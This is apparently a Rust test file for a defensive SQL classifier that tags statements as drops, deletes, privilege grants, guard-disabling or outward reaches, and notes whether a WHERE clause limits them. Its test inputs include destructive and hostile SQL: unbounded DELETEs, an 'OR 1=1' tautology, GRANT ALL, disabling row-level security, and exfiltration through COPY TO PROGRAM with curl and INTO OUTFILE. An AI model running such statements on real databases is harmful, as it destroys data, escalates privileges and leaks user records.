use super::*;

fn read(text: &str) -> Option<(Act, String, bool)> {
    statements(text)
        .into_iter()
        .map(|s| (s.act, s.object, s.limited))
        .next()
}

#[test]
fn statements_are_read_with_their_limits() {
    for (text, act, object, limited) in [
        ("DROP TABLE IF EXISTS users", Act::Drop, "users", false),
        ("drop\n database  shop", Act::Drop, "shop", false),
        (
            "delete from orders where id = 5",
            Act::Delete,
            "orders",
            true,
        ),
        (
            "DELETE FROM orders WHERE id=5 OR 1=1",
            Act::Delete,
            "orders",
            false,
        ),
        (
            "DELETE FROM orders WHERE 1=1 AND id = 5",
            Act::Delete,
            "orders",
            true,
        ),
        (
            "DELETE FROM orders /* where id=1 */",
            Act::Delete,
            "orders",
            false,
        ),
        (
            "DELETE FROM orders -- WHERE id = 1",
            Act::Delete,
            "orders",
            false,
        ),
        (
            "DELETE FROM orders WHERE note = 'a;b'",
            Act::Delete,
            "orders",
            true,
        ),
        (
            "UPDATE users SET active = true",
            Act::Update,
            "users",
            false,
        ),
        (
            "UPDATE prices SET p = p * 2 WHERE true",
            Act::Update,
            "prices",
            false,
        ),
        (
            "UPDATE users SET role='admin' WHERE id=7",
            Act::Grant,
            "users",
            true,
        ),
        ("SELECT * FROM t; TRUNCATE t", Act::Drop, "t", false),
        (
            "WITH old AS (SELECT id FROM t) DELETE FROM t",
            Act::Delete,
            "t",
            false,
        ),
        ("EXPLAIN ANALYZE DELETE FROM t", Act::Delete, "t", false),
        (
            "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'",
            Act::Grant,
            "bob@%",
            false,
        ),
        (
            "ALTER TABLE users DROP COLUMN email",
            Act::Drop,
            "users",
            false,
        ),
        (
            "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
            Act::Unguard,
            "users",
            false,
        ),
        (
            "SET FOREIGN_KEY_CHECKS = 0",
            Act::Unguard,
            "foreign_key_checks",
            false,
        ),
        (
            "COPY users TO PROGRAM 'curl x.example'",
            Act::Reach,
            "x.example",
            false,
        ),
        (
            "SELECT * FROM users INTO OUTFILE '/tmp/x'",
            Act::Reach,
            "/tmp/x",
            false,
        ),
        ("BEGIN; DELETE FROM t; COMMIT", Act::Delete, "t", false),
        (
            "delete t from t join u on t.id=u.id",
            Act::Delete,
            "t",
            false,
        ),
        (
            "INSERT INTO users (n, role) VALUES ('eve','admin')",
            Act::Grant,
            "users",
            false,
        ),
    ] {
        assert_eq!(
            read(text),
            Some((act, object.to_owned(), limited)),
            "{text}"
        );
    }
}

#[test]
fn what_changes_nothing_is_no_statement() {
    for text in [
        "how to drop table safely",
        "explain delete from orders",
        "SELECT 'DROP TABLE users'",
        "SELECT * FROM deleted_items WHERE update = 1",
        "BEGIN; DELETE FROM orders; ROLLBACK;",
        "START TRANSACTION; UPDATE t SET a=1; SELECT count(*) FROM t; ROLLBACK",
        "INSERT INTO logs (a) VALUES (1)",
        "CREATE TABLE tmp_x (id int)",
        "CREATE INDEX CONCURRENTLY i ON t (a)",
        "-- DROP TABLE users\nSELECT 1",
        "SHOW GRANTS FOR bob",
        "VACUUM ANALYZE orders",
        "ALTER TABLE users ADD COLUMN nick text",
        "",
    ] {
        assert_eq!(read(text), None, "{text}");
    }
}

#[test]
fn a_text_too_long_to_be_read_limits_nothing() {
    let text = ["DELETE FROM t WHERE id IN (", &"1,".repeat(20_000), "2)"].concat();
    assert_eq!(read(&text).map(|r| r.2), Some(false));
    for broken in [
        "'",
        "/*",
        "--",
        "delete from",
        "with",
        "explain analyze",
        "é';é",
        "update set",
    ] {
        let _ = statements(broken);
    }
}
